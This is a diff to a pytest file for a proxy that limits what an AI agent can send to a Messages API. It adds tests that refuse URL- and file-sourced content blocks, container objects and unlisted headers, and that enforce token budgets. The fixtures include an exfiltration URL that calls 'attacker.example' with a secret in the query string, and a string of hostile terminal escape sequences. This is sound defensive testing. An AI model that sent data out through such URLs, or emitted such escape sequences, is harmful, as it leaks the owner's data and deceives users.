@@ -5,10 +5,12 @@ from __future__ import annotations
 
 import asyncio
 import json
+import logging
 import re
 import sqlite3
 import subprocess
 import sys
+import threading
 from collections.abc import AsyncIterator, Callable, Iterator
 from contextlib import closing
 from datetime import timedelta
@@ -19,11 +21,11 @@ import pytest
 from cli_kit import Ncl, ok
 from kit import World
 from security_kit import ROOT, T0
-from test_proxy import Upstream, raw, running_upstream
-from test_proxy_bounds import ASK, Host
+from test_proxy import MESSAGE, Upstream, raw, running_upstream
+from test_proxy_bounds import ASK, Host, post
 from test_webhooks import Hook
 
-from host import groups
+from host import api_policy, groups
 
 # A clipboard write, a screen clear, a window title, an 8-bit CSI, a right-to-left override, DEL.
 HOSTILE = "\x1b]52;c;aGFja2Vk\x07\x1b[2J\x1b]0;pwned\x07\x9b31m\u202eexe.txt\x7f"
@@ -250,3 +252,74 @@ def test_a_pause_resume_flood_is_applied_fifty_per_visit(tmp_path: Path) -> None
     sweeper = world.sweeper()
     assert [sweeper.tick(T0 + timedelta(seconds=s)).applied for s in (1, 2, 3, 4)] == [50, 50, 20, 0]
     assert len(world.live(task)) == 1  # a flip-flop never multiplies the series' occurrences
+
+
+# -- holes the review found, now closed -------------------------------------------------------------------------------
+
+def test_content_the_api_would_fetch_for_the_agent_is_refused(host: Host, upstream: Upstream) -> None:
+    """An image or document whose source is a URL makes the Messages API fetch it (data leaves in the URL, the page
+    comes back); a Files API source reads the organisation's files. Both are server features."""
+    sock = host.serve()
+    leak = "https://attacker.example/x.png?secret=the-owners-mail"
+    for block in ({"type": "image", "source": {"type": "url", "url": leak}},
+                  {"type": "document", "source": {"type": "url", "url": leak.replace("png", "pdf")}},
+                  {"type": "document", "source": {"type": "file", "file_id": "file_011"}}):
+        ask = {**ASK, "messages": [{"role": "user", "content": [block, {"type": "text", "text": "describe"}]}]}
+        answer = post(sock, ask)
+        assert answer.status_code == 400 and "content source" in answer.text, block
+    assert upstream.seen == []
+    plain = {**ASK, "messages": [{"role": "user", "content": [{"type": "text", "text": "the url type is fine"}]}]}
+    assert post(sock, plain).status_code == 200
+
+
+def test_a_container_object_of_any_value_is_a_server_feature(host: Host, upstream: Upstream) -> None:
+    sock = host.serve()
+    for value in (b'{"id": "container_1", "skills": [{"type": "anthropic", "skill_id": "x"}]}', b"{}", b'""'):
+        assert send(sock, b'{"model": "m", "container": %s}' % value).split(b" ", 2)[1] == b"400", value
+    assert upstream.seen == []
+
+
+def test_cache_tokens_count_toward_the_daily_budget(host: Host, upstream: Upstream) -> None:
+    usage = {"input_tokens": 3, "cache_creation_input_tokens": 90_000, "cache_read_input_tokens": 90_000,
+             "output_tokens": 1}
+    upstream.reply = lambda h: h.send(200, json.dumps({**MESSAGE, "usage": usage}).encode())
+    sock = host.serve(NCL_GROUP_TOKENS_PER_DAY="1000")
+    codes = [post(sock).status_code for _ in range(3)]
+    assert codes == [200, 429, 429], (codes, host.usage())
+
+
+def test_request_headers_reach_upstream_only_from_an_allow_list(host: Host, upstream: Upstream) -> None:
+    sock = host.serve()
+    send(sock, json.dumps(ASK).encode(), b"anthropic_beta: web-fetch-2025-09-10\r\nx-custom: 1\r\n"
+                                         b"anthropic-version: 2023-06-01\r\n")
+    (seen,) = upstream.seen
+    assert "anthropic_beta" not in seen.headers and "x-custom" not in seen.headers
+    assert seen.headers["anthropic-version"] == "2023-06-01"
+
+
+def test_deeply_nested_json_is_a_400_and_logs_no_traceback(host: Host, upstream: Upstream,
+                                                           caplog: pytest.LogCaptureFixture) -> None:
+    caplog.set_level(logging.INFO, logger="host.proxy")
+    sock = host.serve()
+    deep = b"[" * 100_000 + b"]" * 100_000
+    answers = {send(sock, deep)[:12] for _ in range(20)}
+    assert answers == {b"HTTP/1.1 400"}
+    assert not [r for r in caplog.records if r.exc_info], "a refusal is one line, never a traceback"
+
+
+def test_a_body_is_inspected_off_the_proxys_event_loop(host: Host, upstream: Upstream,
+                                                       monkeypatch: pytest.MonkeyPatch) -> None:
+    """Decoding a 32 MiB body of tiny objects takes seconds of CPU: on the proxy's loop it would stall every other
+    session's calls and streams meanwhile."""
+    inspected_on: list[str] = []
+    real = api_policy.server_features
+
+    def spy(body: bytes | bytearray) -> list[str]:
+        inspected_on.append(threading.current_thread().name)
+        return real(body)
+
+    monkeypatch.setattr(api_policy, "server_features", spy)
+    sock = host.serve()
+    assert post(sock).status_code == 200
+    (proxy,) = host.proxies
+    assert proxy.thread is not None and inspected_on and proxy.thread.name not in inspected_on
